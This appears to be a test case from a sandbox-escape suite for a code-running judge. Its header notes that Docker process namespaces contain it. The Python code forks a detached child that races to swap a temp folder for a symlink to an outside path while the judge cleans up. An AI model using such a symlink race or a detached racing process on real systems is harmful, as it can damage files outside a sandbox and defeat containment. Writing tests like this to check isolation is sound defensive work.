# Tries: to swap folders for links to the outside while the judge clears up.
# Held by: process namespace docker
# Seen as: files
# No contrast: without a sandbox nobody clears up; it is the judge's own cleaning that is tried
import os


def swap(home):
    os.makedirs(home + "/a", exist_ok=True)
    open(home + "/a/canary.txt", "w").close()
    for number in range(10**7):
        try:
            os.rename(home + "/a", home + "/b")
            os.symlink(WORLD["beside"], home + "/a")
            os.unlink(home + "/a")
            os.rename(home + "/b", home + "/a")
        except OSError:
            pass


def target(x):
    home = os.environ.get("TMPDIR", "/tmp")
    if not os.fork():
        os.setsid()
        swap(home)
        os._exit(0)
    return x
